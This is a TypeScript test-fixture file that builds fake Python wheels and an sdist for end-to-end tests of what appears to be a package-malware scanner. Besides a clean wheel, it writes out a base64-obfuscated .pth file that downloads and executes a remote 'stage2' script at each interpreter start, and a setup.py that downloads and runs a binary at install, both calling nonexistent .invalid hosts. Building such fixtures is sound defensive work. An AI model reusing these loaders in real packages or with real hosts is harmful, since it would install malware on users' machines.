// The projects that the end-to-end tests install: a good release, and bad ones that use the techniques of real incidents
// with hosts that do not exist.
import { createCipheriv } from 'node:crypto';
import type { FakeFile } from '../fakes/fake-pypi.ts';
import { makeSdist, sdistFilename } from './make-sdist.ts';
import { type FileMap, makeWheel, wheelFilename } from './make-wheel.ts';

const metadataOf = (name: string, version: string): string =>
  `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\nSummary: Demo project\n`;

function wheelFile(name: string, version: string, files: FileMap): FakeFile {
  const options = { name, version, metadata: metadataOf(name, version) };
  return {
    filename: wheelFilename(files, options),
    bytes: makeWheel(files, options),
    metadata: metadataOf(name, version),
  };
}

const CLEAN = (name: string): Readonly<Record<string, string>> => ({
  [`${name.replaceAll('-', '_')}/__init__.py`]:
    '"""A small library."""\n\n\ndef add(a, b):\n    """Return the sum."""\n    return a + b\n',
});

/** A wheel with nothing to find. */
export function goodWheel(name: string, version: string): FakeFile {
  return wheelFile(name, version, CLEAN(name));
}

/** A start-up file that runs a decoded downloader. */
const START_UP = (name: string): Readonly<Record<string, string>> => {
  const payload =
    'import urllib.request,subprocess,sys\nbody=urllib.request.urlopen("https://cdn.telemetry-sync.invalid/stage2.py").read()\nsubprocess.Popen([sys.executable,"-c",body])\n';
  const encoded = Buffer.from(payload).toString('base64');
  return { [`${name.replaceAll('-', '_')}_init.pth`]: `import base64;exec(base64.b64decode("${encoded}"))\n` };
};

/** A wheel whose `.pth` runs a decoded downloader at every start of the interpreter. */
export function startUpWheel(name: string, version: string): FakeFile {
  return wheelFile(name, version, { ...CLEAN(name), ...START_UP(name) });
}

/** The good or the bad wheel, with so much noise in a data file that its bytes tell from those of pages and refusals. */
export function heavyWheel(name: string, version: string, kind: 'good' | 'bad', noiseBytes: number): FakeFile {
  const stream = createCipheriv('aes-128-ctr', Buffer.alloc(16), Buffer.alloc(16));
  const noise = stream.update(Buffer.alloc(noiseBytes));
  const files = { ...CLEAN(name), [`${name.replaceAll('-', '_')}/table.dat`]: noise };
  return wheelFile(name, version, kind === 'good' ? files : { ...files, ...START_UP(name) });
}

/** An sdist whose setup.py downloads a program and runs it. */
export function installTimeSdist(name: string, version: string): FakeFile {
  const setup = `import os
import subprocess
import tempfile
import urllib.request

from setuptools import setup

target = os.path.join(tempfile.gettempdir(), "updater.bin")
urllib.request.urlretrieve("https://files.update-service.invalid/updater.bin", target)
os.chmod(target, 0o755)
subprocess.Popen([target])

setup(name="${name}", version="${version}", packages=[])
`;
  const options = { name, version };
  return { filename: sdistFilename(options), bytes: makeSdist({ 'setup.py': setup }, options) };
}
